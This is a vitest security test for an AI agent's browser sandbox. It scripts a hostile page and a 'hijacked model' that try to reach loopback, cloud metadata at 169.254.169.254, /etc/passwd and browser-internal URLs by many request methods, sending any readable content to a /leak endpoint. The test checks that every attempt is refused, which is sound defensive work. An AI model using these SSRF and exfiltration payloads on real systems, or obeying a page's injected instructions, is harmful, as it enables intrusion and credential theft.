/**
 * A hostile page, and a model that follows its instructions, try to reach loopback, cloud metadata, other sandboxes and
 * the browser's own files by every means that a page has (S1 in docs/proof.md, sink "browser").
 */
import { createSocket } from 'node:dgram'
import { rm } from 'node:fs/promises'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Canary, openCanary } from '../egress/canary.ts'
import { LOOPBACK, METADATA } from '../egress/urls.ts'
import { type FakeProvider, openFakeProvider } from '../fake-provider.ts'
import { type Server, startServer } from '../support/server.ts'
import { drive, type Step } from './drive.ts'
import { openSite, type Site } from './site.ts'

/** The page's script: tries each request on each address, and sends what it can read to /leak. */
const ATTACK = (
  hosts: readonly string[],
  port: number,
) => `<!doctype html><title>Attack</title><p id=state>Working</p><script>
const leak = (what) => new Image().src = '/leak?' + encodeURIComponent(what)
const tried = []
const attempt = (action) => { try { tried.push(Promise.resolve(action()).catch(() => {})) } catch {} }
const soon = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
const frame = (src) => { const one = document.createElement('iframe'); one.src = src; document.body.append(one) }
for (const host of ${JSON.stringify(hosts)}) for (const at of [host + ':${port}', host + ':3128', host]) {
  attempt(() => fetch('http://' + at + '/', { mode: 'no-cors' }))
  attempt(() => fetch('https://' + at + '/', { mode: 'no-cors', method: 'POST', body: 'x' }))
  attempt(() => { new WebSocket('ws://' + at + '/') })
  attempt(() => { new Image().src = 'http://' + at + '/i.png' })
}
const here = '127.0.0.1:${port}'
attempt(() => { new EventSource('http://' + here + '/') })
attempt(() => navigator.sendBeacon('http://' + here + '/', 'x'))
attempt(() => fetch('/to?http://' + here + '/', { mode: 'no-cors' }))
attempt(() => { new WebSocket('wss://' + here + '/') })
attempt(() => navigator.serviceWorker.register('/worker.js'))
attempt(() => { new Worker('/worker.js') })
attempt(async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:' + here, 'turn:' + here + '?transport=tcp'], username: 'u', credential: 'c' }] })
  peer.onicecandidate = ({ candidate }) => candidate?.candidate && leak('candidate ' + candidate.candidate)
  peer.createDataChannel('x')
  await peer.setLocalDescription()
})
for (const link of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'stylesheet', 'manifest', 'icon', 'modulepreload'])
  attempt(() => { const one = document.createElement('link'); one.rel = link; one.href = 'http://' + here + '/'; document.head.append(one) })
for (const url of ['file:///etc/passwd', 'file:///workspace/', 'chrome://version', 'devtools://devtools/bundled/inspector.html', 'view-source:file:///etc/passwd', 'http://127.0.0.1:3128/', '/to?http://' + here + '/', '/to?file:///etc/passwd']) {
  attempt(() => frame(url))
  attempt(() => fetch(url).then((answer) => answer.text()).then((text) => { if (/root:|errand:/.test(text)) leak(text) }))
  attempt(() => window.open(url))
}
attempt(() => { location.href = 'file:///etc/passwd' })
Promise.race([Promise.all(tried), soon(15000)]).then(() => soon(500)).then(() => { state.textContent = 'All was tried' })
</script>`

let site: Site
let provider: FakeProvider
let server: Server
let canaries: Canary[]
const udp = createSocket('udp4')
let datagrams = 0

beforeAll(async () => {
  const first = await openCanary('127.0.0.1')
  const others = ['::1', '127.0.0.2'].map((host) => openCanary(host, undefined, first.port))
  canaries = [first, ...(await Promise.all(others))]
  udp.on('message', () => datagrams++)
  await new Promise<void>((resolve) => udp.bind(first.port, '127.0.0.1', resolve))
  site = await openSite({
    '/': ATTACK([...LOOPBACK, ...METADATA], first.port),
    '/to': (asked, answer) => answer.writeHead(302, { location: asked.url!.slice(asked.url!.indexOf('?') + 1) }).end(),
    '/worker.js': (_, answer) => {
      answer.writeHead(200, { 'content-type': 'text/javascript' })
      answer.end(`fetch('http://127.0.0.1:${first.port}/worker', { mode: 'no-cors' }).catch(() => {})`)
    },
    '/leak': (_, answer) => answer.end(),
  })
  provider = await openFakeProvider()
  const allowPrivate = [`127.0.0.1:${site.port}`]
  server = await startServer({ provider, config: { egress: { allowPrivate } } })
})

afterAll(async () => {
  await server.stop()
  await rm(server.dataDir, { recursive: true, force: true })
  await provider.close()
  await site.close()
  udp.close()
  await Promise.all(canaries.map((canary) => canary.close()))
})

const LISTEN = `import socket, threading
inside = socket.create_server(('127.0.0.1', 8765)); heard = []
def serve():
    while True: heard.append(inside.accept())
threading.Thread(target=serve, daemon=True).start()`

test('neither a hostile page nor a hijacked model reaches loopback, metadata, other sandboxes or files', async () => {
  const { port } = canaries[0]!
  const opened = [
    ...[
      'file:///etc/passwd',
      'chrome://version',
      'devtools://devtools/',
      'view-source:http://example.com/',
      'javascript:alert(1)',
    ],
    ...[
      'data:text/html,x',
      'about:blank',
      'blob:http://a/b',
      'ftp://127.0.0.1/',
      'chrome-untrusted://x',
      'filesystem:http://a/b',
    ],
    ...[`http://127.0.0.1:${port}/`, `http://[::1]:${port}/`, `http://2130706433:${port}/`, `localhost:${port}`],
    ...[`https://127.0.0.1:${port}/`, 'http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:8765/'],
    ...[
      `http://user:pass@127.0.0.1:${port}/`,
      site.url(`/to?http://127.0.0.1:${port}/`),
      site.url('/to?file:///etc/passwd'),
    ],
  ]
  const steps: Step[] = [
    { tool: 'code_execution', args: { code: LISTEN } },
    ...opened.map((url) => ({ action: 'open', url })),
    { action: 'open', url: site.url('/') },
    // The page's pop-up became the current tab.
    { action: 'tabs', ref: 't1' },
    { action: 'wait', text: 'All was tried', seconds: 60 },
    { action: 'tabs' },
    { tool: 'code_execution', args: { code: 'len(heard)' } },
  ]
  const { body, outputs } = await drive(server, provider, steps, { tools: ['browser', 'code_execution'] })
  expect(body.status).toBe('completed')
  const told = outputs.slice(1, 1 + opened.length)
  opened.forEach((url, i) => {
    expect([url, told[i]]).toEqual([url, expect.stringMatching(/not opened|can't be opened|HTTP status 403|Refused/)])
  })
  expect(outputs.join('\n')).not.toMatch(/root:x|the canary/)
  expect(outputs.at(-3)).toContain('"All was tried" is on the page.')
  expect(outputs.at(-1)).toBe('0')

  expect(canaries.map(({ hits }) => hits)).toEqual([0, 0, 0])
  expect(datagrams).toBe(0)
  expect(site.asked.filter((asked) => asked.includes('/leak'))).toEqual([])
  const audit = await server.get(`/v1beta/interactions/${body.interactionId}/audit?pageSize=100`)
  const contacts = audit.body.entries as { kind: string; host: string; port: number; outcome: string }[]
  expect(new Set(contacts.map(({ kind }) => kind))).toEqual(new Set(['browser']))
  const dialled = new Set(
    contacts.filter(({ outcome }) => outcome === 'dialled').map(({ host, port }) => `${host}:${port}`),
  )
  expect(dialled).toEqual(new Set([`127.0.0.1:${site.port}`]))
  // The page really tried: the guard refused its requests.
  expect(contacts.filter(({ outcome }) => outcome === 'refused').length).toBeGreaterThan(20)
  expect(contacts).toContainEqual(expect.objectContaining({ host: '169.254.169.254', outcome: 'refused' }))
})
